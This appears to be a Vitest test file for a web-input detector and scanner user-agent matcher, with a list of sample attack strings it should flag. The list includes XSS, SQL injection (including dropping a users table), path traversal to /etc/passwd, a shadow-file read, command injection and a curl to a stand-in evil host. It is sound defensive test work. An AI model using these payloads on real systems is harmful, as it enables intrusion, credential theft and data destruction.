import { describe, expect, it } from 'vitest';
import { decodeInput, matchPayload, matchScanner } from './matchers.ts';

const ATTACKS = [
  '<script>alert(1)</script>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%253Cscript%253E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '＜script＞alert(1)',
  "' OR '1'='1",
  "admin' --",
  "1' UNION SELECT password FROM users",
  "x'; DROP TABLE users",
  '../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '; cat /etc/shadow',
  '| whoami',
  '$(curl evil.example)',
];

const ORDINARY = [
  'Please select the best price for this order',
  'Select 10 shares and update later',
  'Drop me a note when filled',
  'Tom & Jerry',
  "It's a great day, isn't it?",
  'Price 1/2 of yesterday; sell at 10.5',
  'Buy AAPL at market... then wait',
  'From London, union workers',
  'Use the script I sent (not the old one)',
  'email me: a.b@example.com',
  'my cat likes to sleep',
  '100% sure',
  'Or maybe not',
];

describe('matchPayload', () => {
  it.each(ATTACKS)('flags %s', (s) => {
    expect(matchPayload(s)).not.toBeNull();
  });
  it.each(ORDINARY)('leaves ordinary text alone: %s', (s) => {
    expect(matchPayload(s)).toBeNull();
  });
  it('decodes URL, entities and full-width forms', () => {
    expect(decodeInput('%3C&#x73;cript＞')).toBe('<script>');
  });
  it('survives malformed escapes', () => {
    expect(() => matchPayload('%E0%A4%A %zz &#xFFFFFFFF;')).not.toThrow();
  });
});

describe('matchScanner', () => {
  it.each([
    ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'sqlmap'],
    ['Mozilla/5.00 (Nikto/2.1.6)', 'nikto'],
    ['Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'nuclei'],
    ['Mozilla/5.0 (compatible; OWASP ZAP)', 'owasp zap'],
    ['gobuster/3.6', 'gobuster'],
    ['WPScan v3.8', 'wpscan'],
  ])('names %s', (ua, name) => {
    expect(matchScanner(ua)).toBe(name);
  });
  it.each(['Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0 Safari/537.36', 'node-fetch', 'Amazon', '', undefined])('ignores %s', (ua) => {
    expect(matchScanner(ua)).toBeNull();
  });
});
